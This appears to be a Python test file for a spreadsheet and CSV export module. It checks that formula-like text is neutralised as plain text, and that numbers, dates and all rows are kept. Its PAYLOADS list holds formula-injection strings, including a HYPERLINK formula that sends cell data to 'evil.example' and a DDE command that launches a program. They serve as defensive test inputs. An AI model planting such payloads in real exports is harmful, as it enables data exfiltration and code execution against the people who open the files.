"""The one export writer: formula-like text stays text, every row is written."""

import csv
import datetime
import io
from decimal import Decimal

from openpyxl import load_workbook

from daotao.core.exporting import ExportTable, csv_safe, write_csv, write_xlsx

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B5,"x")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
]


def _table(rows, title="Danh sách", headers=("Tên", "Số")):
    return ExportTable(
        filename="thu", title=title, headers=headers, rows=rows, count=len(rows)
    )


def _read(table):
    buffer = io.BytesIO()
    write_xlsx(table, buffer)
    return load_workbook(io.BytesIO(buffer.getvalue())).active


def test_formula_like_text_is_written_as_text_and_kept_as_typed():
    sheet = _read(_table([(text, index) for index, text in enumerate(PAYLOADS)]))
    cells = list(sheet.iter_rows(min_row=3))
    assert [row[0].value for row in cells] == PAYLOADS
    assert {row[0].data_type for row in cells} == {"s"}
    assert all(row[0].quotePrefix for row in cells)


def test_numbers_and_dates_stay_numbers_and_dates():
    day = datetime.date(2026, 3, 5)
    sheet = _read(_table([(-1, 2.5), (Decimal("8.5"), day)]))
    first, second = sheet.iter_rows(min_row=3)
    assert (first[0].value, first[0].data_type) == (-1, "n")
    assert (first[1].value, first[1].data_type) == (2.5, "n")
    assert second[0].value == 8.5
    assert second[1].value.date() == day


def test_ordinary_text_has_no_quote_prefix():
    sheet = _read(_table([("Nguyễn Văn An", "Phó Giám đốc Sở - Ban")]))
    row = next(sheet.iter_rows(min_row=3))
    assert [c.value for c in row] == ["Nguyễn Văn An", "Phó Giám đốc Sở - Ban"]
    assert not any(c.quotePrefix for c in row)


def test_title_and_headers_are_neutralised_too():
    sheet = _read(_table([], title="=1+2 lớp", headers=("=A1", "Tên")))
    assert sheet["A1"].value == "=1+2 lớp"
    assert sheet["A1"].data_type == "s"
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=A1", "s")
    assert sheet.title == "=1+2 lớp"


def test_a_sheet_name_drops_characters_excel_refuses():
    sheet = _read(_table([], title="Lớp K60/A [2026]: tổng hợp kết quả học tập"))
    assert sheet.title == "Lớp K60 A  2026   tổng hợp kết "


def test_every_row_is_written_and_progress_is_reported():
    seen = []
    buffer = io.BytesIO()
    written = write_xlsx(
        _table([(f"Người {n}", n) for n in range(4_500)]), buffer, progress=seen.append
    )
    assert written == 4_500
    assert seen == [2_000, 4_000]
    sheet = load_workbook(io.BytesIO(buffer.getvalue()), read_only=True).active
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert len(rows) == 4_500
    assert rows[-1] == ("Người 4499", 4_499)


def test_csv_prefixes_formula_like_text_with_an_apostrophe():
    out = io.StringIO()
    write_csv(_table([(text, 1) for text in PAYLOADS[:5]]), out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[0] for row in rows[2:]] == ["'" + text for text in PAYLOADS[:5]]
    assert rows[2][1] == "1"
    assert csv_safe(None) == ""
    assert csv_safe(-3) == -3
    assert csv_safe("Hà Nội") == "Hà Nội"
